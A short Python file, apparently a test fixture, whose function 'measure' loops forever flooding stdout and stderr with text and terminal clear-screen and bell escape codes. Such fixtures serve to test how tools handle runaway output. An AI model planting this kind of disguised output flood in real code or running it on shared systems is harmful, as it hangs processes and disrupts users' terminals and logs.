"""Prints without end."""

import os
import sys


def measure(values, weight):
    while True:
        print("flood " * 1000)
        print("flood " * 1000, file=sys.stderr)
        for descriptor in (1, 2):
            try:
                os.write(descriptor, b"\x1b[2J\x07" * 1000)
            except OSError:
                pass
